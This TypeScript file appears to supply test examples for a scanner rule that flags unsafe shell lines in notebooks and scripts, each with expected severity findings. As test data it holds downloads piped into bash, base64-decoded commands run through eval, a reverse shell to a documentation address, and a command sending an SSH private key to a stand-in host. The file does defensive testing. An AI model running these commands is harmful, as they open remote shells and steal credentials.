// Examples of unsafe-shell-line.
import type { Example } from "../../core/detector.ts";
import { python, shell } from "./testing/program.ts";

const FROM = ["curl", "-fsSL"].join(" ");
const INTO = ["|", "bash"].join(" ");
const ENCODED = Buffer.from("echo hello").toString("base64");

export const examples: readonly Example[] = [
  python("A download piped into a shell", ["1 medium"], `!${FROM} https://files.example.test/install.sh ${INTO}`),
  python(
    "The same without encryption",
    ["2 high"],
    "import os",
    `!${FROM} http://files.example.test/install.sh ${INTO}`,
  ),
  python(
    "The same from a bare address, over two lines",
    ["1 high"],
    "!wget -qO- https://203.0.113.9/a \\",
    `  ${INTO}`,
  ),
  python("Decoded text that runs", ["1 high"], `!echo ${ENCODED} | base64 -d ${INTO}`),
  python("An assignment from a shell line", ["1 medium"], `out = !${FROM} https://files.example.test/a ${INTO}`),
  shell(
    "A shell script with all of them",
    ["5 critical", "3 high"],
    "#!/bin/bash",
    "set -e",
    `eval "$(echo ${ENCODED} | base64 -d)"`,
    "",
    `bash -i >& ${["/dev", "tcp", "192.0.2.7", "4444"].join("/")} 0>&1`,
  ),
  shell("A key that is sent", ["1 critical"], `cat ~/.ssh/id_${"rsa"} | curl -d @- https://collect.example.test/`),
  python("A package from a repository", ["1 low"], "!pip install git+https://github.com/example/tool.git"),
  python(
    "A package without encryption",
    ["1 medium"],
    "!pip install --index-url http://packages.example.test/simple tool",
  ),
  python(
    "A package from somebody's index",
    ["1 medium"],
    "!pip install --extra-index-url https://packages.example.test/simple tool",
  ),
  python(
    "What notebooks do every day",
    [],
    "!pip install -q transformers==4.40 datasets",
    "!pip install torch --index-url https://download.pytorch.org/whl/cu121",
    "!nvidia-smi",
    "!wget https://data.example.com/a.zip",
    "!curl -L https://data.example.com/a.csv | head -n 5",
    "!unzip -q a.zip && ls",
    "files = !ls data",
    'text = """',
    `!${FROM} https://files.example.test/a ${INTO}`,
    '"""',
  ),
  shell(
    "A script that prepares data",
    [],
    "#!/bin/sh",
    `# ${FROM} https://files.example.test/a ${INTO}`,
    "wget -q https://data.example.com/a.tar.gz",
    "tar xzf a.tar.gz",
    "python prepare.py --input a",
  ),
];
